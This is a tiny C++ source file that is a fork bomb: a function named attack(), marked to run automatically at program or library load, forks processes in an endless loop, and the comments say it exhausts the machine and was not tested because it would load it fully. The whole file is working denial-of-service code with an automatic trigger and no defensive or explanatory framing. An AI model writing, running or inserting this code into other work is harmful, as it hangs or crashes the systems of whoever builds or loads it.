// Starts processes until there can be no more, which all go on.
// not tried: it loads the whole machine, so it waits for one that does nothing else
#include <unistd.h>

namespace {
[[gnu::constructor]] void attack() {
  for (;;) (void)fork();
}
}  // namespace
